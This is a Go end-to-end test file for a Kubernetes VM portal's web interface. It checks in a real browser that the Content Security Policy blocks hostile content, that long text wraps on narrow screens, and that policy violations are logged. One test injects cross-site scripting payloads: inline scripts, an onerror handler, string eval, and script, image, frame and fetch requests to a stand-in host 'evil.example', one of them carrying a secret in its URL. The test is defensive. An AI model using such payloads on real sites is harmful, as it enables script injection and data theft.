//go:build e2e

package handlers_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"kubevirt-shepherd.io/shepherd/handlers"
	"kubevirt-shepherd.io/shepherd/internal/gallery"
	"kubevirt-shepherd.io/shepherd/views/paths"
)

// watchPolicy notes everything that the content policy stops on a page.
const watchPolicy = `globalThis.stopped = []; addEventListener("securitypolicyviolation", e => stopped.push(e.effectiveDirective + " " + e.blockedURI + " " + e.sample));
	for (const ask of ["alert", "confirm", "prompt"]) globalThis[ask] = () => { document.documentElement.dataset.pwned = ask; };`

// TestHostileBrowser opens every page of a portal whose every text is hostile,
// in Chromium: no script of a text runs, nothing has to be stopped by the
// policy, and nothing is asked of another host.
func TestHostileBrowser(t *testing.T) {
	s, _, routes := newHostileShop(t)
	scr := s.screen(s.admin)
	if err := scr.Before(watchPolicy); err != nil {
		t.Fatal(err)
	}
	for _, path := range routes {
		scr.open(path)
		state, err := gallery.Ask[string](scr.Camera, `(async () => {
			await new Promise(r => setTimeout(r, 50));
			document.querySelectorAll("details").forEach(d => d.open = true);
			return JSON.stringify({ran: document.documentElement.dataset.pwned ?? "", stopped,
				elsewhere: performance.getEntriesByType("resource").map(e => e.name).filter(n => !n.startsWith(location.origin)), isolated: crossOriginIsolated});
		})()`)
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		var got struct {
			Ran                string
			Stopped, Elsewhere []string
			Isolated           bool
		}
		if err := json.Unmarshal([]byte(state), &got); err != nil {
			t.Fatal(err)
		}
		if got.Ran != "" || len(got.Stopped) > 0 || len(got.Elsewhere) > 0 || !got.Isolated {
			t.Errorf("%s: %+v", path, got)
		}
	}
}

// TestLongWords: texts that people and clusters write freely may have a word as
// long as they are; it breaks, and no page becomes wider than a narrow screen.
func TestLongWords(t *testing.T) {
	s, _, routes := newFullShop(t)
	for column, limit := range map[string]int{
		"approval_tickets.reason": 500, "approval_tickets.decision_reason": 500, "systems.documentation": 500, "services.documentation": 500, "users.display_name": 100,
		"templates.description": 200, "templates.display_name": 60, "templates.image": 300, "clusters.place": 100, "clusters.api_server_url": 253, "vms.node_name": 253,
		"vms.guest_os": 100, "audit_logs.reason": 500, "cluster_drafts.file_name": 100,
	} {
		table, name, _ := strings.Cut(column, ".")
		s.planted(fmt.Sprintf(`UPDATE %s SET %s = left($1, %d)`, table, name, limit), longWord+longWord)
	}
	for _, column := range []string{"vms.problem", "clusters.status_reason", "approval_tickets.problem"} {
		table, name, _ := strings.Cut(column, ".")
		s.planted(fmt.Sprintf(`UPDATE %s SET %s = jsonb_build_object('code', 'SPEC_REJECTED', 'text', $1::text, 'params', jsonb_build_object('text', $1::text, 'message', $1::text)) WHERE %s->>'code' <> ''`, table, name, name), longWord+longWord)
	}
	scr := s.screen(s.admin)
	narrow := gallery.Mode{Name: "narrow", Width: 320, Height: 640}
	for _, path := range routes {
		if err := scr.Visit(s.url+path, narrow); err != nil {
			t.Fatal(err)
		}
		wide, err := gallery.Ask[int](scr.Camera, `(document.querySelectorAll("details").forEach(d => d.open = true), document.documentElement.scrollWidth)`)
		if err != nil {
			t.Fatal(err)
		}
		if wide > 320 {
			culprit, err := gallery.Ask[string](scr.Camera, `[...document.querySelectorAll("body *")].filter(e => e.scrollWidth > e.clientWidth + 2 && e.clientWidth > 0 && getComputedStyle(e).overflowX === "visible" && !e.closest(".overflow-x-auto")).slice(-3).map(e => e.tagName + "." + e.className + " " + e.textContent.slice(0, 30)).join(" | ")`)
			t.Errorf("%s is %d pixels wide on a screen of 320: %s %v", path, wide, culprit, err)
		}
	}
}

// TestPolicyStopsAndTells: what a page is not allowed is stopped by a real
// browser, and the portal hears of it.
func TestPolicyStopsAndTells(t *testing.T) {
	var log lockedText
	shop := newShop(t, func(c *handlers.Config) { c.Logger = log.logger() })
	s := shop.screen(shop.dev)
	if err := s.Before(watchPolicy); err != nil {
		t.Fatal(err)
	}
	s.open(paths.Home)
	_, err := gallery.Ask[int](s.Camera, `(() => {
		const add = (tag, props) => document.body.append(Object.assign(document.createElement(tag), props));
		add("script", {textContent: "document.documentElement.dataset.pwned = 'inline'"});
		add("script", {src: "https://evil.example/a.js?secret=SECRET"});
		add("img", {src: "https://evil.example/a.png"});
		add("iframe", {src: "https://evil.example/"});
		add("base", {href: "https://evil.example/"});
		document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\"document.documentElement.dataset.pwned = 'attribute'\"><p style='color: red'>x</p>");
		setTimeout("document.documentElement.dataset.pwned = 'eval'");
		fetch("https://evil.example/").catch(() => {});
		return 0;
	})()`)
	if err != nil {
		t.Fatal(err)
	}
	for _, directive := range []string{"script-src-elem", "img-src", "frame-src", "base-uri", "script-src-attr", "style-src-attr", "script-src", "connect-src"} {
		s.waits(fmt.Sprintf(`stopped.some(x => x.startsWith(%q))`, directive+" "))
	}
	if s.is(`document.documentElement.dataset.pwned`) {
		t.Error("a script ran")
	}
	for end := time.Now().Add(20 * time.Second); ; time.Sleep(500 * time.Millisecond) {
		if strings.Contains(shop.scrape(), `shepherd_csp_violations_total{directive="script-src-elem"}`) && strings.Contains(log.String(), "https://evil.example/a.js") {
			break
		}
		if time.Now().After(end) {
			t.Fatalf("the browser does not report\n%s", shop.scrape())
		}
	}
	if strings.Contains(log.String(), "SECRET") {
		t.Error("the log has a query")
	}
}
